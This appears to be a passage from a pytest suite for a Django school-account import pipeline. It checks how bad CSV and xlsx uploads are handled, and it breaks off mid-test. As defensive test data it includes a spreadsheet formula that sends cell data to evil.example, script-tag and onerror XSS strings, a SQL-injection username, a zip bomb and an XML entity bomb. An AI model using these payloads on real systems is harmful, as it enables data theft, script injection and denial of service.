"""Every case of docs/bad-files.md, numbered as there, through the real pipeline.

The reading, mapping, validation and engine tests under tests/imports/ test the parts one
by one; these take each bad input from the bytes of a file to the database (run_import,
prepare_import, or `klasse import` itself) and assert the behaviour docs/bad-files.md promises.
Where a case belongs to the wizard (13, 15, 29, 31) it is tested here at the core, and
through the web pages while those exist.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import struct
import zipfile
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from django.core import mail
from django.core.management import call_command
from django.db import IntegrityError, connection, transaction
from django.urls import reverse

from klasse.accounts.models import Account, Role, SchoolClass
from klasse.imports.core import pipeline, reading, xlsx
from klasse.imports.core.applying import StalePlan
from klasse.imports.core.pipeline import prepare_import, read_upload, run_import
from klasse.imports.core.planning import Actions
from klasse.imports.core.problems import FileProblem
from klasse.imports.models import ImportRun
from klasse.imports.services import import_run_record_cli
from tests.conftest import PASSWORD, client_for, make_account
from tests.security.conftest import (
    ADD,
    ALL,
    CORPORA,
    HEADER,
    csv_bytes,
    csv_text,
    klasse_import,
    line,
    load_settings,
    problems_by_row,
    school_state,
)

pytestmark = pytest.mark.django_db
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"


def refused(data: bytes, school, name: str = "leerlingen.csv", **options) -> FileProblem:
    before = school_state(school)
    with pytest.raises(FileProblem) as caught:
        run_import(data, name, school=school, actions=ALL, **options)
    assert school_state(school) == before, "a file problem must change nothing"
    return caught.value


def codes(report: dict, row: int) -> set[str]:
    return problems_by_row(report).get(row, set())


def usernames() -> set[str]:
    return set(Account.objects.values_list("username", flat=True))


def write(tmp_path: Path, data: bytes, name: str = "leerlingen.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(HEADER)
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


class _Cells(HTMLParser):
    """The text of every <td>, and every <script> element's attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.cells: list[str] = []
        self.scripts: list[dict] = []
        self._in_td = False

    def handle_starttag(self, tag, attrs):
        if tag == "td":
            self._in_td = True
            self.cells.append("")
        elif tag == "script":
            self.scripts.append(dict(attrs))

    def handle_endtag(self, tag):
        if tag == "td":
            self._in_td = False

    def handle_data(self, data):
        if self._in_td:
            self.cells[-1] += data


def page_cells(client, url: str) -> _Cells:
    response = client.get(url)
    assert response.status_code == 200
    parser = _Cells()
    parser.feed(response.content.decode())
    assert all(script.get("src") for script in parser.scripts), "an inline <script> on the page"
    return parser


# --- Files -------------------------------------------------------------------------------


def test_01_utf8_with_bom_first_header_is_achternaam(school_a):
    data = codecs.BOM_UTF8 + csv_bytes([line("anna")])
    prepared = prepare_import(data, "leerlingen.csv", school=school_a, actions=ADD)
    assert prepared.table.headers[0] == "achternaam"
    assert prepared.mapping["achternaam"] == "last_name"
    run_import(data, "leerlingen.csv", school=school_a, actions=ADD)
    assert Account.objects.get(username="anna").last_name == "Jansen"


@pytest.mark.parametrize("delimiter", [",", "\t"], ids=["comma", "tab"])
@pytest.mark.parametrize(
    "bom,codec", [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")]
)
def test_02_utf16_with_bom_gives_the_same_rows_as_utf8(school_a, bom, codec, delimiter):
    rows = [
        line("zoe", voornaam="Zoë", achternaam="Çelik"),
        line("unal", voornaam="Ünal", tussenvoegsel="van 't", achternaam="Hoff, de"),
        line("mei", voornaam="美玲", achternaam='O\'Brien "Obi"'),
    ]
    text = csv_text(rows, delimiter=delimiter)
    utf8 = prepare_import(text.encode("utf-8"), "f.csv", school=school_a, actions=ADD)
    utf16 = prepare_import(bom + text.encode(codec), "f.csv", school=school_a, actions=ADD)
    assert (utf16.table.encoding, utf16.table.delimiter) == ("utf-16", delimiter)
    assert [(r.number, r.cells) for r in utf16.table.rows] == [
        (r.number, r.cells) for r in utf8.table.rows
    ]
    assert utf16.plan.counts == utf8.plan.counts == {**utf8.plan.counts, "add": 3}


def test_03_windows_1252_is_read_as_windows_1252_never_latin1_controls(school_a):
    data = csv_text([line("zoe", voornaam="Zoë", achternaam="D’Arcy", stamnummer="€1234")]).encode(
        "cp1252"
    )
    assert b"\x80" in data and b"\x92" in data and b"\xeb" in data
    report, _ = run_import(data, "magister.csv", school=school_a, actions=ADD)
    assert report["file"]["encoding"] == "cp1252" and report["counts"]["add"] == 1
    zoe = Account.objects.get(username="zoe")
    assert (zoe.first_name, zoe.last_name, zoe.external_id) == ("Zoë", "D’Arcy", "€1234")
    for value in (zoe.first_name, zoe.last_name, zoe.external_id):
        assert "\ufffd" not in value
        assert not any("\x80" <= ch <= "\x9f" for ch in value)


def test_04_one_invalid_byte_deep_in_utf8_is_a_clear_choice_never_silently_mixed(school_a):
    good = [line(f"ll{i}") for i in range(60)]
    text = csv_text([line("zoe", voornaam="Zoë"), *good])
    data = text.encode("utf-8") + "Jansen;;Ëlla;ella;;e@example.nl;3HB;havo 3;;\r\n".encode(
        "cp1252"
    )
    bad_line = text.count("\r\n") + 1
    try:
        report, _ = run_import(data, "f.csv", school=school_a, actions=ADD)
    except FileProblem as problem:  # the other allowed answer: a file error naming the line
        assert problem.code == "unreadable_file" and f"Regel {bad_line}" in problem.message
        assert not Account.objects.exists()
        return
    assert report["file"]["encoding"] == "cp1252"
    notice = [p for p in report["problems"] if p["row"] == bad_line]
    assert notice and f"regel {bad_line}" in notice[0]["message"].lower()
    # The UTF-8 name is repaired with a warning naming its row, never stored as ZoÃ«.
    assert "repaired_text" in codes(report, 2)
    assert Account.objects.get(username="zoe").first_name == "Zoë"
    assert Account.objects.get(username="ella").first_name == "Ëlla"
    assert not Account.objects.filter(first_name__contains="Ã").exists()


@pytest.mark.parametrize("eol", ["\r", "\r\n", "\n"], ids=["cr", "crlf", "lf"])
def test_05_cr_crlf_and_lf_give_the_same_records_and_a_quoted_newline_stays_in_its_field(
    school_a, eol
):
    rows = [line("anna"), line("piet", voornaam="Piet\nJan"), line("kees", voornaam="Kees")]
    data = csv_text(rows).replace("\r\n", eol).encode()
    assert data.count(b"Piet\nJan") == 1  # csv quoted it; the newline is in the field
    prepared = prepare_import(data, "f.csv", school=school_a, actions=ADD)
    assert [r.cells[3] for r in prepared.table.rows] == ["anna", "piet", "kees"]
    assert prepared.table.rows[1].cells[2] == "Piet\nJan"
    assert [r.number for r in prepared.table.rows] == [2, 3, 4]
    report, _ = run_import(data, "f.csv", school=school_a, actions=ADD)
    assert codes(report, 3) == {"invalid_characters"}  # a name with a newline is refused
    assert usernames() == {"anna", "kees"}


def test_06_doubled_quotes_are_undone_and_a_quoted_comma_is_one_field(school_a):
    header = ",".join(HEADER)
    data = (
        f'{header}\r\n"Anytown, WW",,"ha ""ha"" ha",haha,,h@example.nl,3HB,havo 3,,\r\n'
    ).encode()
    report, _ = run_import(data, "f.csv", school=school_a, actions=ADD)
    assert report["counts"]["add"] == 1 and report["problems"] == []
    haha = Account.objects.get(username="haha")
    assert (haha.first_name, haha.last_name) == ('ha "ha" ha', "Anytown, WW")


@pytest.mark.parametrize(
    "broken", ['Jansen;;Anna;anna;;a@example.nl;3HB;havo 3;;"', '"ab"c;;Anna;anna;;;3HB;havo 3;;']
)
def test_07_a_broken_quote_is_an_error_with_its_line_not_a_guess(school_a, tmp_path, broken):
    good = ";".join(line("piet"))
    path = write(tmp_path, f"{';'.join(HEADER)}\r\n{good}\r\n{broken}".encode())
    code, output = klasse_import(path, "--add")
    assert code == 1
    assert output["error"]["code"] == "unreadable_file"
    assert "Regel 3" in output["error"]["message"]
    assert not Account.objects.exists()


def test_08_an_unquoted_comma_is_a_column_count_problem_not_shifted_data(school_a):
    header = ",".join(HEADER)
    data = (
        f"{header}\r\n"
        "Jansen,,Anna,anna,,a@example.nl,3HB,havo 3,,\r\n"
        'Expert,, "Trust me, I\'m an expert",expert,,e@example.nl,3HB,havo 3,,123\r\n'
    ).encode()
    report, _ = run_import(data, "f.csv", school=school_a, actions=ADD)
    assert "wrong_column_count" in codes(report, 3)
    assert usernames() == {"anna"}


def test_08_an_unquoted_comma_is_a_column_count_problem_also_when_the_last_cell_is_empty(
    school_a,
):
    header = "gebruikersnaam,e-mailadres,klas,opleiding,achternaam,voornaam,stamnummer"
    data = (
        f"{header}\r\n"
        "anna,a@example.nl,3HB,havo 3,Jansen,Anna,\r\n"
        'expert,e@example.nl,3HB,havo 3,Expert, "Trust me, I\'m an expert",\r\n'
    ).encode()
    report, _ = run_import(data, "f.csv", school=school_a, actions=ADD)
    shifted = Account.objects.filter(username="expert").values("first_name", "external_id")
    assert "wrong_column_count" in codes(report, 3), f"stored shifted: {list(shifted)}"
    assert usernames() == {"anna"}


def test_09_more_cells_than_the_header_is_wrong_column_count_and_fewer_are_empty(school_a):
    text = csv_text([])
    text += "Jansen;;Anna;anna;;a@example.nl;3HB;havo 3;;123;extra\r\n"  # one cell too many
    text += "Jansen;;Anna;leeg;;a@example.nl;3HB;havo 3;;;;;\r\n"  # empty extras are fine
    text += "Pietersen;;Piet;piet;;p@example.nl;3HB;havo 3\r\n"  # rol, stamnummer missing
    report, _ = run_import(text.encode(), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 2) == {"wrong_column_count"}
    assert codes(report, 3) == codes(report, 4) == set()
    piet = Account.objects.get(username="piet")
    assert (piet.role, piet.external_id, piet.programme.code) == (Role.STUDENT, "", "havo 3")
    assert usernames() == {"leeg", "piet"}


def test_10_nul_bytes_are_a_file_error(school_a):
    data = csv_bytes([line("anna"), line("piet", voornaam="Pi\x00et")])
    problem = refused(data, school_a)
    assert problem.code == "unreadable_file" and "Regel 3" in problem.message


def test_10_a_field_longer_than_the_limit_is_a_row_error(school_a):
    rows = [line("anna"), line("lang", voornaam="A" * 101), line("reus", achternaam="B" * 2**20)]
    report, _ = run_import(csv_bytes(rows), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 3) == {"too_long"} and codes(report, 4) == {"too_long"}
    assert usernames() == {"anna"}


@pytest.mark.parametrize(
    "data",
    [b"", b"\r\n \r\n", codecs.BOM_UTF8, (";".join(HEADER) + "\r\n").encode(), b";;;\r\n"],
    ids=["empty", "blank-lines", "only-a-bom", "header-only", "only-separators"],
)
def test_11_an_empty_or_header_only_file_is_empty_file(school_a, data):
    assert refused(data, school_a).code == "empty_file"


def test_11_a_duplicate_header_is_said_before_anything_is_written(school_a, tmp_path):
    header = [*HEADER, "Klas"]
    data = csv_bytes([[*line("anna"), "4HB"]], header=header)
    code, output = klasse_import(write(tmp_path, data), "--add")
    assert code == 1 and output["error"]["code"] == "unreadable_file"
    message = output["error"]["message"]
    assert "klas" in message.lower() and "meer dan één keer" in message
    assert not Account.objects.exists() and not SchoolClass.objects.exists()


def test_11_an_unknown_header_is_said_in_the_preview_before_anything_is_written(school_a, tmp_path):
    data = csv_bytes([[*line("anna"), "v"]], header=[*HEADER, "Geslacht"])
    code, output = klasse_import(write(tmp_path, data), "--add", "--dry-run")
    assert code == 0 and output["mapping"]["Geslacht"] is None
    assert not Account.objects.exists()
    unknown_only = csv_bytes([["Jansen", "Anna", "anna"]], header=["Familie", "Roep", "Wie"])
    code, output = klasse_import(write(tmp_path, unknown_only), "--add")
    assert code == 1 and output["error"]["code"] == "missing_required_columns"
    assert "Familie" in output["error"]["message"]


def test_12_a_header_with_a_line_break_or_control_character_is_normalised(school_a):
    header = ["achter\nnaam", "voor\x01naam", "\u200bgebruikersnaam"]
    data = csv_bytes([line("anna")], header=[header[0], HEADER[1], *header[1:], *HEADER[4:]])
    prepared = prepare_import(data, "f.csv", school=school_a, actions=ADD)
    headers = [prepared.table.headers[i] for i in (0, 2, 3)]
    assert headers == ["achter naam", "voor naam", "gebruikersnaam"]
    assert [prepared.mapping[h] for h in headers] == [
        "last_name",
        "first_name",
        "username",
    ]
    warnings = [w for w in prepared.table.warnings if w.row == 1]
    assert [w.code for w in warnings] == ["repaired_text"] * 3
    run_import(data, "f.csv", school=school_a, actions=ADD)
    anna = Account.objects.get(username="anna")
    assert (anna.first_name, anna.last_name) == ("Anna", "Jansen")


@pytest.mark.parametrize(
    "invisible",
    ["\u00ad", "\u200c", "\u200d", "\u200e", "\u2060"],
    ids=["soft-hyphen", "zwnj", "zwj", "lrm", "word-joiner"],
)
def test_12_a_header_with_an_invisible_format_character_is_never_silently_unmatched(
    school_a, invisible
):
    header = list(HEADER)
    header[4] = f"wacht{invisible}woord"
    data = csv_bytes([line("anna", wachtwoord="geheim-wachtwoord-1")], header=header)
    try:
        prepared = prepare_import(data, "f.csv", school=school_a, actions=ADD)
    except FileProblem:
        return  # refused: allowed
    assert prepared.mapping.get(prepared.table.headers[4]) == "password"


def test_13_an_xlsx_named_csv_is_read_as_xlsx(school_a):
    data = xlsx_bytes([line("anna", stamnummer="001234")])
    report, _ = run_import(data, "leerlingen.csv", school=school_a, actions=ADD)
    assert report["file"]["format"] == "xlsx"
    assert Account.objects.get(username="anna").external_id == "001234"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
        b"\x7fELF\x02\x01\x01\x00\x00\x00",
    ],
    ids=["pdf", "png", "windows-exe", "elf"],
)
def test_13_a_csv_that_is_really_a_pdf_image_or_program_is_unsupported_format(school_a, data):
    assert refused(data + b"\x00" * 64, school_a, "leerlingen.csv").code == "unsupported_format"


def _no_openpyxl(monkeypatch) -> None:
    def parse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to parse a bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", parse)


def test_14_an_xlsx_zip_bomb_is_refused_before_parsing(school_a, monkeypatch):
    _no_openpyxl(monkeypatch)
    bomb = zipped(
        {"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\x00" * 50_000_000}
    )
    assert len(bomb) < 200_000
    assert refused(bomb, school_a, "leerlingen.xlsx").code in ("unreadable_file", "too_large")


def test_14_an_xlsx_over_the_unpacked_size_or_entry_count_is_refused(school_a, monkeypatch):
    _no_openpyxl(monkeypatch)
    monkeypatch.setattr(xlsx, "MAX_XLSX_UNPACKED", 10_000)
    real = (FIXTURES / "leerlingen.xlsx").read_bytes()
    assert refused(real, school_a, "leerlingen.xlsx").code == "too_large"
    many = zipped({f"xl/p{i}.xml": b"<x/>" for i in range(xlsx.MAX_XLSX_ENTRIES + 1)})
    assert refused(many, school_a, "leerlingen.xlsx").code == "unreadable_file"


def test_14_an_xml_entity_bomb_is_refused_before_parsing_and_defusedxml_guards_openpyxl(
    school_a, monkeypatch
):
    assert openpyxl.xml.DEFUSEDXML, "openpyxl parses with defusedxml only when it is installed"
    source = xlsx_bytes([line("anna", achternaam="Jansen")])
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        entries = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    lol = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;">' % (i, *[i - 1] * 5) for i in range(1, 9)
    )
    body = entries[sheet]
    if body.startswith(b"<?xml"):
        body = body.split(b"?>", 1)[1]
    entries[sheet] = b'<?xml version="1.0"?><!DOCTYPE bomb [<!ENTITY l0 "lol">' + lol + b"]>" + body
    _no_openpyxl(monkeypatch)
    assert refused(zipped(entries), school_a, "leerlingen.xlsx").code == "unreadable_file"


def damaged_xlsx(kind: str) -> bytes:
    """The sample workbook with one kind of damage in its sheet's zip entry."""
    real = (FIXTURES / "leerlingen.xlsx").read_bytes()
    data = bytearray(real)
    info = zipfile.ZipFile(io.BytesIO(real)).getinfo("xl/worksheets/sheet1.xml")
    local, name = info.header_offset, info.filename.encode()
    central = real.index(b"PK\x01\x02")
    while real[central + 46 : central + 46 + len(name)] != name:
        central = real.index(b"PK\x01\x02", central + 4)
    if kind == "bad-local-header":
        data[local : local + 4] = b"PK\x00\x00"
    elif kind == "broken-deflate":
        name_length, extra_length = struct.unpack("<HH", real[local + 26 : local + 30])
        start = local + 30 + name_length + extra_length
        data[start : start + 16] = b"\xff" * 16
    elif kind == "encrypted":
        for flags in (local + 6, central + 8):
            data[flags] |= 1
    elif kind == "newer-zip-version":
        data[central + 6] = 241
    return bytes(data)


@pytest.mark.parametrize(
    "kind", ["bad-local-header", "broken-deflate", "encrypted", "newer-zip-version"]
)
def test_14_a_damaged_xlsx_is_a_file_problem_never_a_crash(school_a, kind):
    assert refused(damaged_xlsx(kind), school_a, "leerlingen.xlsx").code == "unreadable_file"


def test_15_a_file_over_the_size_limit_is_refused_before_parsing(school_a, settings, monkeypatch):
    settings.KLASSE_MAX_UPLOAD_BYTES = 1000

    def parse(*args, **kwargs):
        raise AssertionError("an oversized file was parsed")

    monkeypatch.setattr(reading, "_sniff", parse)
    monkeypatch.setattr(reading, "decode", parse)  # as reading calls it
    data = csv_bytes([line(f"ll{i}") for i in range(30)])
    with pytest.raises(FileProblem) as problem:
        read_upload(data, "f.csv")
    assert problem.value.code == "too_large"
    assert refused(data, school_a).code == "too_large"


def test_15_a_file_over_the_row_limit_is_refused_before_anything_is_checked(
    school_a, settings, monkeypatch
):
    settings.KLASSE_MAX_ROWS = 3

    def validate(*args, **kwargs):
        raise AssertionError("rows of a file over the row limit were validated")

    monkeypatch.setattr(pipeline, "validate_rows", validate)
    assert refused(csv_bytes([line(f"ll{i}") for i in range(4)]), school_a).code == "too_large"


def test_15_the_limits_are_20_mb_and_200000_rows_by_default_and_configurable(production_env):
    defaults = load_settings(**production_env)
    assert defaults["KLASSE_MAX_UPLOAD_BYTES"] == 20 * 1024 * 1024
    assert defaults["KLASSE_MAX_ROWS"] == 200_000
    chosen = load_settings(
        **production_env, KLASSE_MAX_UPLOAD_BYTES="1048576", KLASSE_MAX_ROWS="500"
    )
    assert (chosen["KLASSE_MAX_UPLOAD_BYTES"], chosen["KLASSE_MAX_ROWS"]) == (1048576, 500)


# --- Values ------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31612345678",
    "-Anna",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_16_formula_like_values_are_stored_as_written_and_escaped_in_the_export(school_a, tmp_path):
    rows = [
        line(f"f{i}", voornaam=value, achternaam=value, stamnummer=value)
        for i, value in enumerate(FORMULAS)
    ]
    code, report = klasse_import(write(tmp_path, csv_bytes(rows)), "--add")
    assert code == 0 and report["counts"]["add"] == len(FORMULAS), report["problems"]
    for i, value in enumerate(FORMULAS):
        account = Account.objects.get(username=f"f{i}")
        # Values are trimmed (docs/import-contract.md): a leading tab or CR goes, the rest stays.
        expected = value.strip()
        assert (account.first_name, account.last_name, account.external_id) == (expected,) * 3
    exported = tmp_path / "export.csv"
    call_command("export", "--school", "school-a", "--output", str(exported))
    cells = list(
        csv.reader(io.StringIO(exported.read_text("utf-8-sig"), newline=""), delimiter=";")
    )
    for row in cells[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert {row[2] for row in cells[1:]} == {"'" + v.strip() for v in FORMULAS}
    code, again = klasse_import(exported, "--update")
    assert code == 0 and again["counts"]["unchanged"] == len(FORMULAS)


def test_16_a_tab_or_cr_at_the_start_of_a_stored_value_is_escaped_in_the_export(school_a, tmp_path):
    # No import stores these (values are trimmed), but an account edited by hand might.
    make_account(school_a, "tab", first_name="\t=1+1", last_name="\r=2+2", external_id="@x")
    exported = tmp_path / "export.csv"
    call_command("export", "--school", "school-a", "--output", str(exported))
    text = exported.read_bytes().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1]
    # A tab or CR is also a place where a spreadsheet may split: the `=` after it is escaped.
    assert (row[0], row[2], row[9]) == ("'\r'=2+2", "'\t'=1+1", "'@x")


def test_16_formula_like_values_are_html_escaped_on_the_class_page(school_a, alice, class_a):
    for i, value in enumerate(FORMULAS):
        make_account(school_a, f"f{i}", first_name=value.strip(), school_class=class_a)
    cells = page_cells(client_for(alice), reverse("class_detail", args=[class_a.pk])).cells
    for value in FORMULAS:
        assert f"{value.strip()} Persona" in cells


SCRIPT = "<script>alert(1)</script>"


def test_17_a_script_tag_is_stored_verbatim_and_escaped_on_every_page(
    school_a, alice, tom, tmp_path
):
    rows = [
        line("xss", voornaam=SCRIPT, achternaam='"><img src=x onerror=alert(1)>', klas=SCRIPT),
        line("xss2", voornaam="Anna", stamnummer=SCRIPT),
    ]
    code, report = klasse_import(write(tmp_path, csv_bytes(rows)), "--add")
    assert code == 0 and report["counts"]["add"] == 2, report["problems"]
    xss = Account.objects.get(username="xss")
    assert (xss.first_name, xss.school_class.name) == (SCRIPT, SCRIPT)
    xss.school_class.teachers.add(tom)
    pages = [reverse("class_detail", args=[xss.school_class_id]), reverse("overview")]
    pages += [reverse(name) for name in ("tools", "users:list", "history:list")]
    for client in (client_for(alice), client_for(tom), client_for(xss)):
        for url in [*pages, reverse("student_home")]:
            response = client.get(url, follow=True)
            body = response.content.decode()
            assert SCRIPT not in body and "<img src=x" not in body, url
    cells = page_cells(client_for(alice), pages[0]).cells
    assert f"{SCRIPT} {xss.last_name}" in cells


def _blns() -> list[str]:
    text = (CORPORA / "blns" / "blns.txt").read_text(encoding="utf-8")
    # Split on \n only: some naughty strings hold \x85 or \u2028, which splitlines() breaks.
    return [s for s in text.split("\n") if s and not s.startswith("#")]


def _as_read(value: str) -> str:
    # The reader undoes our export's formula escape, the validator trims, and a no-break
    # space in a name is an ordinary one (docs/import-contract.md): said without a word.
    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r":
        value = value[1:]
    return value.translate({0xA0: " ", 0x2007: " ", 0x202F: " "}).strip()


def test_17_every_naughty_string_as_a_first_name_is_stored_exactly_or_refused_with_a_code(
    school_a, alice, class_a
):
    naughty = _blns()
    assert len(naughty) > 400
    stored = refused_rows = repaired = 0
    for start in range(0, len(naughty), 100):
        chunk = naughty[start : start + 100]
        rows = [line(f"blns{start + i}", voornaam=s) for i, s in enumerate(chunk)]
        report, _ = run_import(csv_bytes(rows), "blns.csv", school=school_a, actions=ADD)
        problems = {}
        for problem in report["problems"]:
            problems.setdefault(problem["row"], []).append(problem)
        for i, value in enumerate(chunk):
            found = problems.get(i + 2, [])
            errors = [p["code"] for p in found if p["severity"] == "error"]
            account = Account.objects.filter(username=f"blns{start + i}").first()
            if errors:
                assert account is None, f"{value!r} was refused ({errors}) yet stored"
                refused_rows += 1
            elif account.first_name == _as_read(value):
                stored += 1
            else:  # the contract: damaged text is repaired, with a warning naming the row
                assert "repaired_text" in {p["code"] for p in found}, (
                    f"{value!r} was stored as {account.first_name!r} without a word"
                )
                repaired += 1
    assert stored > 400 and stored + refused_rows + repaired == len(naughty)
    cells = set(page_cells(client_for(alice), reverse("class_detail", args=[class_a.pk])).cells)
    for account in Account.objects.filter(username__startswith="blns"):
        assert account.full_name in cells, f"{account.first_name!r} is not shown back exactly"


def test_18_sql_as_a_username_is_invalid_username_and_the_run_goes_on(school_a):
    rows = [line("'; DROP TABLE accounts;--"), line("anna")]
    report, _ = run_import(csv_bytes(rows), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 2) == {"invalid_username"}
    assert usernames() == {"anna"} and Account.objects.count() == 1


def test_19_fullwidth_and_plain_are_one_username_in_a_file(school_a):
    report, _ = run_import(
        csv_bytes([line("ｍａｒｉａ"), line("maria")]), "f.csv", school=school_a, actions=ADD
    )
    assert codes(report, 2) == codes(report, 3) == {"duplicate_in_file"}
    assert not Account.objects.exists()


def test_19_fullwidth_names_the_existing_account(school_a, class_a):
    maria = make_account(school_a, "maria", email="m@example.nl", school_class=class_a)
    report, _ = run_import(
        csv_bytes([line("ｍａｒｉａ", voornaam="Maria", achternaam="Persona")]),
        "f.csv",
        school=school_a,
        actions=Actions(add=True, update=True),
    )
    assert report["counts"]["add"] == 0 and report["counts"]["update"] == 1
    assert list(Account.objects.values_list("pk", flat=True)) == [maria.pk]


@pytest.mark.parametrize("username", ["maria\u200b", "ma\u202eairam", "\u202emaria"])
def test_20_zero_width_and_right_to_left_override_usernames_are_invalid(school_a, username):
    report, _ = run_import(
        csv_bytes([line(username), line("anna")]), "f.csv", school=school_a, actions=ADD
    )
    assert codes(report, 2) == {"invalid_username"}
    assert usernames() == {"anna"}


def test_21_the_same_username_twice_in_other_case_is_duplicate_in_file_on_both_rows(school_a):
    rows = [line("Maria"), line("anna"), line("maria")]
    report, _ = run_import(csv_bytes(rows), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 2) == codes(report, 4) == {"duplicate_in_file"}
    assert usernames() == {"anna"}


@pytest.mark.parametrize(
    ("first", "second"), [("İpek", "ipek"), ("ΟΔΟΣ", "οδοσ"), ("Émile", "émile")]
)
def test_21_usernames_the_database_folds_alike_are_duplicate_in_file(school_a, first, second):
    rows = [line(first), line("anna"), line(second)]
    report, _ = run_import(csv_bytes(rows), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 2) == codes(report, 4) == {"duplicate_in_file"}
    assert usernames() == {"anna"}


def test_22_a_username_of_another_school_is_taken_without_naming_that_school(
    school_a, bob, tmp_path
):
    before = Account.objects.filter(pk=bob.pk).values().get()
    path = write(tmp_path, csv_bytes([line("BOB", voornaam="Overgenomen")]))
    code, report = klasse_import(path, "--add", "--update", "--overwrite-passwords")
    assert code == 0 and codes(report, 2) == {"username_taken"}
    (problem,) = report["problems"]
    for trace in ("College B", "school-b", bob.school.name):
        assert trace not in problem["message"]
    assert Account.objects.filter(pk=bob.pk).values().get() == before


def test_22_a_username_of_another_school_in_other_non_ascii_case_is_taken(school_a, school_b):
    emile = make_account(school_b, "Émile")
    report, _ = run_import(csv_bytes([line("émile")]), "f.csv", school=school_a, actions=ADD)
    assert codes(report, 2) == {"username_taken"}
    assert list(Account.objects.values_list("pk", flat=True)) == [emile.pk]


@pytest.mark.parametrize(
    ("theirs", "ours"), [("İpek", "ipek"), ("ΟΔΟΣ", "οδοσ"), ("STRASSE", "straße")]
)
def test_22_where_the_database_folds_a_letter_otherwise_than_python_the_database_decides(
    school_a, school_b, theirs, ours
):
    # PostgreSQL folds 'İ' to 'i' and 'Σ' to 'σ' where Python gives 'i̇' and 'ς': the
    # unique index is the database's, so the plan asks the database, and the row is either
    # `username_taken` or added, never a failed insert.
    other = make_account(school_b, theirs)
    with connection.cursor() as cursor:
        cursor.execute("SELECT LOWER(%s) = LOWER(%s)", [theirs, ours])
        (same,) = cursor.fetchone()
    report, _ = run_import(csv_bytes([line(ours)]), "f.csv", school=school_a, actions=ADD)
    if same:
        assert codes(report, 2) == {"username_taken"}
        assert list(Account.objects.values_list("pk", flat=True)) == [other.pk]
    else:
        assert report["counts"]["add"] == 1
        assert usernames() == {theirs, ours}


def test_23_columns_id_pk_school_and_is_superuser_never_choose_school_role_or_rights(
    school_a, bob, tmp_path
):
    header = [*HEADER, "id", "pk", "school", "is_superuser", "is_staff", "School_ID"]
    sneaky = [str(bob.pk), str(bob.pk), "school-b", "1", "true", str(bob.school_id)]
    data = csv_bytes([[*line("anna"), *sneaky]], header=header)
    code, report = klasse_import(write(tmp_path, data), "--add", "--update")
    assert code == 0
    assert {h: report["mapping"][h] for h in header[10:]} == dict.fromkeys(header[10:])
    anna = Account.objects.get(username="anna")
    assert (anna.school_id, anna.role) == (school_a.pk, Role.STUDENT)
    assert not hasattr(anna, "is_superuser") or not anna.is_superuser
    assert Account.objects.get(pk=bob.pk).username == "bob"
    for field in ("username", "role", "class_name"):
        code, output = klasse_import(write(tmp_path, data), "--add", "--map", f"school={field}")
        assert code in (1, 2) and "nooit" in output["error"]["message"]


HUGE = ["1e1000000", "99999999999999999999"]


def test_24_huge_numbers_in_any_column_are_text(school_a):
    rows = []
    for column in HEADER:
        for value in HUGE:
            username = value if column == "gebruikersnaam" else f"u{len(rows)}"
            rows.append(line(username, **{column.replace("-", "_"): value}))
    report, _ = run_import(csv_bytes(rows), "f.csv", school=school_a, actions=ADD)
    by_row = problems_by_row(report)
    for number, row in enumerate(rows, 2):
        column = HEADER[[i for i, v in enumerate(row) if v in HUGE][0]]
        expected_error = {"e-mailadres": "invalid_email", "opleiding": "unknown_programme"}
        expected_error["rol"] = "unknown_role"
        if column in expected_error:
            assert by_row.get(number) == {expected_error[column]}, (column, by_row.get(number))
            continue
        assert not by_row.get(number), (column, by_row.get(number))
        account = Account.objects.get(username=row[3])
        value = next(v for v in row if v in HUGE)
        stored = {
            "achternaam": account.last_name,
            "tussenvoegsel": account.infix,
            "voornaam": account.first_name,
            "gebruikersnaam": account.username,
            "klas": account.school_class and account.school_class.name,
            "stamnummer": account.external_id,
        }
        if column == "wachtwoord":
            assert account.check_password(value)
        else:
            assert stored[column] == value


def test_25_a_new_account_without_password_and_email_is_no_password_or_email(school_a, tmp_path):
    path = write(tmp_path, csv_bytes([line("anna", e_mailadres=""), line("piet")]))
    code, report = klasse_import(path, "--add")
    assert code == 0 and codes(report, 2) == {"no_password_or_email"}
    assert usernames() == {"piet"}


@pytest.mark.parametrize("weak", ["password", "1234567"])
def test_26_a_weak_password_is_weak_password(school_a, weak):
    report, _ = run_import(
